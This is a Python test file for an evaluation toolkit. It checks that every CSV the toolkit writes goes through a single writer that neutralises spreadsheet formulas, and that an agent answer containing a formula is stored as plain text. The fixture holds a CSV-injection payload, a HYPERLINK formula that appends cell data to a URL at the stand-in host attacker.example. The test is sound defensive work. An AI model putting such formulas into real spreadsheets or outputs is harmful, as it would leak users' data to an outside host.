"""One CSV writer, always neutralising: no sheet evalkit writes can carry a live formula.

A spreadsheet runs ``=HYPERLINK("http://host/?"&A1,"click")`` as a formula; an agent's answer
is attacker-controlled text. Every CSV evalkit writes for people goes through
:func:`evalkit._spreadsheet.write_sheet`, and a scan of the source keeps it that way.
"""

from __future__ import annotations

import ast
import csv
import json
import shutil
from pathlib import Path

import pytest

from evalkit.judge import compare_pairwise
from evalkit.results import read_labels_csv
from evalkit.runner import RunConfig, run
from tests.conftest import DEMO, ROOT, evalkit_cli

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
WRITER = ROOT / "evalkit" / "_spreadsheet.py"


def _csv_writers(path: Path) -> list[str]:
    """``csv.writer``/``csv.DictWriter``/``DataFrame.to_csv`` calls in one source file."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            owner = node.func.value
            if name == "to_csv" or (name in {"writer", "DictWriter"}
                                    and isinstance(owner, ast.Name) and owner.id == "csv"):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    return found


def test_every_csv_evalkit_writes_goes_through_the_one_neutralising_writer() -> None:
    sources = sorted((ROOT / "evalkit").rglob("*.py"))
    assert len(sources) > 100
    writers = [w for path in sources if path != WRITER for w in _csv_writers(path)]
    assert writers == [], f"write CSV with evalkit._spreadsheet.write_sheet: {writers}"
    assert _csv_writers(WRITER), "the one writer is still there"


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> Path:
    runs = tmp_path_factory.mktemp("sheets") / "runs"
    run(DEMO, RunConfig(runs_dir=runs, run_id="demo", progress=False, trials=2,
                        lanes=("prompt",), conditions=("none", "preloaded")))
    compare_pairwise("demo", conditions=["none", "preloaded"], runs_dir=runs, n_resamples=200)
    return runs


def test_a_formula_answer_on_the_pairwise_sheet_is_text(judged: Path, tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    shutil.copytree(judged, runs)
    stored = next((runs / "demo" / "pairwise").glob("*.json"))
    data = json.loads(stored.read_text())
    for pair in data["pairs"]:  # the agent answered with a formula, in every pair
        pair["baseline_answer"] = FORMULA
        pair["candidate_answer"] = FORMULA + " (candidate)"
    stored.write_text(json.dumps(data))
    sheet = tmp_path / "pairs.csv"
    done = evalkit_cli("judge", "sample", "demo", "--pairwise", "-n", "10", "-o", sheet,
                       "--runs-dir", runs)
    assert done.returncode == 0, done.stderr
    with sheet.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c and c[0] in "=+-@"], "a live formula on the sheet"
    assert f"'{FORMULA}" in cells
    back = read_labels_csv(sheet)  # evalkit reads the answer back unchanged
    assert FORMULA in set(back["response_1"]) | set(back["response_2"])

